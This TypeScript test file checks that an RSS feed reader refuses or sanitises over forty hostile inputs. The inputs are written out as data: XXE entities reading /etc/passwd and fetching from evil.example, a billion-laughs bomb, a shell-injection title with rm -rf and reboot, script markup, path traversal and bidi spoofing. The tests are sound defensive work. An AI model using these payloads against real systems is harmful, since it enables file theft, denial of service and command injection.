import { gzipSync } from "node:zlib";
import test from "ava";
import { readFeed } from "../../../../src/automation/feeds/document/read-feed.ts";
import type { FeedItem, ReadFeed } from "../../../../src/automation/feeds/feeds.messages.ts";

type Kind = Exclude<ReadFeed["kind"], "feed">;
/** Fields of an item; undefined ones are not there. */
type Fields = { readonly [Name in keyof FeedItem]?: FeedItem[Name] | undefined };
/** The document, and what reading it gives: the first item of a feed, or the kind of the refusal. */
type Hostile = readonly [name: string, text: string | Uint8Array, expected: Fields | Kind];

const link = "http://a.example/x.torrent";

function feed(item: string, before = ""): string {
  return `${before}<rss version="2.0"><channel>${item}</channel></rss>`;
}

function titled(title: string): string {
  return feed(`<item><title>${title}</title><link>${link}</link></item>`);
}

function sized(size: string): string {
  return feed(`<item><title>x</title><enclosure url="${link}" length="${size}"/></item>`);
}

/** The place of a title in {@link titled}. */
const start = titled("").indexOf("</title>");

const entities = Array.from(
  { length: 9 },
  (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
).join("");

const hostile: readonly Hostile[] = [
  ["nothing", "", "malformed"],
  ["zeros", new Uint8Array(1_000), "malformed"],
  ["a picture", Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), "malformed"],
  ["a page", "<!doctype html><html><body>login</body></html>", "refused"],
  ["JSON", '{"version":"https://jsonfeed.org/version/1.1","items":[{"id":"1"}]}', "malformed"],
  ["gzip within", gzipSync(titled("x")), "malformed"],
  ["a billion laughs", feed("", `<!DOCTYPE rss [<!ENTITY l0 "lol">${entities}]>`), "refused"],
  [
    "an external entity",
    feed(
      "<item><title>&x;</title></item>",
      `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
    ),
    "refused",
  ],
  [
    "a parameter entity",
    feed("", `<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/"> %x;]>`),
    "refused",
  ],
  ["an entity without a type", titled("&unknown;"), { title: "&unknown;" }],
  ["nesting", feed(`<item>${"<a>".repeat(100_000)}</item>`), "refused"],
  ["a million items", feed("<item/>".repeat(280_000)), "refused"],
  ["elements without end", feed("<item>".repeat(9_000)), "refused"],
  ["many elements", feed(`<item>${"<a/>".repeat(250_000)}</item>`), "refused"],
  ["a tag without end", `<rss version="2.0"><channel><item a="${"x".repeat(100_000)}`, "refused"],
  ["cut off", titled("x").slice(0, -30), "malformed"],
  ["closed too often", `${titled("x")}</rss></rss></channel>`, { title: "x" }],
  ["control characters", titled("a\u0007\u001b[31mb\u0085c"), { title: "a[31mbc" }],
  ["numeric control characters", titled("a&#0;&#7;&#x1b;b"), { title: "a\ufffdb" }],
  ["bidirectional overrides", titled("a\u202egpj.exe\u2066"), { title: "agpj.exe" }],
  ["path parts", titled("../../etc/cron.d/x"), { title: "../../etc/cron.d/x" }],
  [
    "a shell's words",
    titled("$(reboot) `id` ; rm -rf / | x"),
    { title: "$(reboot) `id` ; rm -rf / | x" },
  ],
  [
    "markup",
    titled("&lt;script&gt;alert(1)&lt;/script&gt;"),
    { title: "<script>alert(1)</script>" },
  ],
  ["lines", titled("a\r\nb\u2028c"), { title: "a b c" }],
  ["a long title", titled("é".repeat(100_000)), { title: "é".repeat(512) }],
  ["an empty title", titled(""), { title: "", id: link }],
  ["a lone surrogate", titled("&#xd800;x"), { title: "\ufffdx" }],
  [
    "prototype names",
    feed(`<item><__proto__>x</__proto__><constructor>y</constructor><title>t</title></item>`),
    "malformed",
  ],
  ["a size of a name", sized("toString"), { sizeBytes: undefined }],
  ["a negative size", sized("-5"), { sizeBytes: undefined }],
  ["a huge size", sized("99999999999999999999999"), { sizeBytes: undefined }],
  ["an exponent", sized("1e400"), { sizeBytes: undefined }],
  ["a fraction", sized("1.5"), { sizeBytes: undefined }],
  ["a size of no bytes", sized("0"), { sizeBytes: undefined }],
  [
    "a date of no day",
    feed(`<item><title>x</title><pubDate>Fri, 99 Foo 99999</pubDate></item>`),
    { publishedMs: undefined },
  ],
  [
    "a date of long ago",
    feed(`<item><title>x</title><pubDate>Fri, 01 Jan 1960 00:00:00 GMT</pubDate></item>`),
    { publishedMs: undefined },
  ],
  [
    "a long date",
    feed(`<item><title>x</title><pubDate>${"1".repeat(100_000)}</pubDate></item>`),
    { publishedMs: undefined },
  ],
  [
    "a broken sequence",
    Buffer.concat([
      Buffer.from(titled("A").slice(0, start)),
      Buffer.from([0xc3, 0x28, 0xff]),
      Buffer.from(titled("A").slice(start)),
    ]),
    { title: "\ufffd(\ufffdA" },
  ],
  [
    "a false encoding",
    titled("x").replace("<rss", `<?xml version="1.0" encoding="utf-16"?><rss`),
    "malformed",
  ],
  [
    "an encoding of code",
    titled("x").replace("<rss", `<?xml version="1.0" encoding="utf-7"?><rss`),
    "refused",
  ],
  [
    "two links",
    feed(`<item><title>x</title><link>file:///etc/passwd</link><link>${link}</link></item>`),
    { link: undefined },
  ],
  ["a link within a title", titled(`</title><link>file:///x</link><title>`), { link: undefined }],
  [
    "a time to live of no number",
    feed(`<ttl>-1e999</ttl><item><title>x</title></item>`),
    { title: "x" },
  ],
  [
    "items within items",
    feed(`<item><title>x</title><item><title>y</title></item></item>`),
    { title: "x" },
  ],
  [
    "a magnet without a hash",
    feed(`<item><title>x</title><torznab:attr name="magneturl" value="magnet:"/></item>`),
    { link: "magnet:" },
  ],
  [
    "an attribute twice",
    feed(`<item><title>x</title><enclosure url="${link}" url="file:///x"/></item>`),
    { title: "x" },
  ],
];

test("the table of hostile feeds has 40 rows at least", (t) => {
  t.true(hostile.length >= 40);
});

for (const [index, [name, text, expected]] of hostile.entries())
  test(`H05: hostile feed ${index + 1}, ${name}, gives ${typeof expected === "string" ? expected : JSON.stringify(expected).slice(0, 60)}`, (t) => {
    const bytes = typeof text === "string" ? Buffer.from(text) : text;
    const read = readFeed(bytes, "http://feed.example/");
    if (read.kind !== "feed") return t.is(read.kind, expected as Kind, read.message);
    for (const item of read.items) {
      t.false(/[\p{Cc}\u2028\u2029]/u.test(item.title));
      t.true(item.title.length <= 512 && item.id.length <= 2_048);
      t.regex(item.link ?? "http:", /^(?:https?|magnet):/);
      t.true(Number.isSafeInteger(item.sizeBytes ?? 0));
    }
    t.like(read.items[0], expected as Fields);
    return undefined;
  });
